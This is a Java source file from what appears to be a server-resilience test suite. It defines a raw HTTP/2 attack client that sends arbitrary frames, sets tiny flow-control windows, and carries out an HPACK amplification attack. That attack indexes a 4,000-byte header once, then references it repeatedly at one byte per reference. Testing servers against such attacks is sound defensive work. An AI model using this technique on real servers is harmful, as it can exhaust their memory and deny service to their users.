package dev.tenure.checks.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.SocketTimeoutException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/// One connection of HTTP/2 on which every frame is the attacker's choice: nothing is answered, no window is
/// opened unless he does so. Used by one thread at a time.
final class Streams implements AutoCloseable {
    private static final byte[] PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final int FRAME_HEAD = 9;
    private static final int LITERAL_MAX = 126;

    static final int DATA = 0;
    static final int HEADERS = 1;
    static final int PRIORITY = 2;
    static final int RESET = 3;
    static final int SETTINGS = 4;
    static final int PING = 6;
    static final int GO_AWAY = 7;
    static final int WINDOW_UPDATE = 8;
    static final int CONTINUATION = 9;
    static final int END_STREAM = 1;
    static final int END_HEADERS = 4;
    private static final int INITIAL_WINDOW = 4;
    /// Begins a header with a new name that is remembered.
    private static final int REMEMBERED = 0x40;
    /// The header that was remembered last.
    private static final int NEWEST = 0x80 | 62;
    /// With its name and what is added for each, as much as a server remembers of one connection (4,096
    /// bytes).
    private static final int REPEATED_BYTES = 4_000;

    private final SecretLine line;
    private int next = 1;

    private Streams(SecretLine line) {
        this.line = line;
    }

    /// @param window bytes of each answer that the server may send
    static Streams open(Victim victim, int window) throws IOException {
        SecretLine line = SecretLine.open(victim, "h2");
        var streams = new Streams(line);
        line.send(PREFACE);
        ByteBuffer setting =
                ByteBuffer.allocate(6).putShort((short) INITIAL_WINDOW).putInt(window);
        streams.frame(SETTINGS, 0, 0, setting.array());
        return streams;
    }

    /// @param type of the frame
    void frame(int type, int flags, int stream, byte[] payload) throws IOException {
        ByteBuffer frame = ByteBuffer.allocate(FRAME_HEAD + payload.length);
        frame.put((byte) (payload.length >> 16)).putShort((short) payload.length);
        frame.put((byte) type).put((byte) flags).putInt(stream).put(payload);
        line.send(frame.array());
    }

    /// Sends the head of a request.
    ///
    /// @param token empty for none
    /// @param ends whether there is no body
    /// @return the stream's number
    int request(String method, String path, String token, boolean ends) throws IOException {
        var head = new ByteArrayOutputStream();
        literal(head, ":method", method);
        literal(head, ":scheme", "https");
        literal(head, ":authority", "localhost");
        literal(head, ":path", path);
        literal(head, "content-type", "application/json");
        if (!token.isEmpty()) {
            literal(head, "authorization", "Bearer " + token);
        }
        int stream = next;
        next += 2;
        frame(HEADERS, END_HEADERS | (ends ? END_STREAM : 0), stream, head.toByteArray());
        return stream;
    }

    /// Sends the head of a request with a header that the server is to remember, and names that again and
    /// again: each time costs one byte and stands for 4 KB.
    ///
    /// @param times at most as many as a frame has room for
    /// @return the stream's number
    int repeat(int times) throws IOException {
        var head = new ByteArrayOutputStream();
        head.write(REMEMBERED);
        head.write(1);
        head.write('a');
        // a length of 127 and more: the rest follows, seven bits a byte, the lowest first
        head.write(LITERAL_MAX + 1);
        int rest = REPEATED_BYTES - LITERAL_MAX - 1;
        head.write((rest & 0x7f) | 0x80);
        head.write(rest >> 7);
        head.writeBytes("b".repeat(REPEATED_BYTES).getBytes(StandardCharsets.US_ASCII));
        for (int i = 0; i < times; i++) {
            head.write(NEWEST);
        }
        int stream = next;
        next += 2;
        frame(HEADERS, END_HEADERS | END_STREAM, stream, head.toByteArray());
        return stream;
    }

    /// A header that is written out and not remembered.
    private static void literal(ByteArrayOutputStream out, String name, String value) {
        if (Math.max(name.length(), value.length()) > LITERAL_MAX) {
            throw new IllegalArgumentException(name + " is too long for this client");
        }
        out.write(0);
        out.write(name.length());
        out.writeBytes(name.getBytes(StandardCharsets.US_ASCII));
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    /// Reads frames until so many streams have ended, or the connection has.
    ///
    /// @return the types of frames that ended them; shorter when the connection ended first
    List<Integer> ends(int count, int millis) throws IOException {
        var ends = new ArrayList<Integer>();
        line.answerWithin(millis);
        InputStream in = line.in();
        try {
            while (ends.size() < count) {
                ByteBuffer head = ByteBuffer.wrap(in.readNBytes(FRAME_HEAD));
                if (head.remaining() < FRAME_HEAD) {
                    return ends;
                }
                int length = (head.get() & 0xff) << 16 | (head.getShort() & 0xffff);
                int type = head.get();
                int flags = head.get();
                in.skipNBytes(length);
                boolean last = (type == DATA || type == HEADERS) && (flags & END_STREAM) != 0;
                if (last || type == RESET || type == GO_AWAY) {
                    ends.add(type);
                }
            }
        } catch (SocketTimeoutException _) {
            // what did not end by now did not end
        }
        return ends;
    }

    boolean endsWithin(int millis) {
        return line.endsWithin(millis);
    }

    @Override
    public void close() {
        line.close();
    }
}
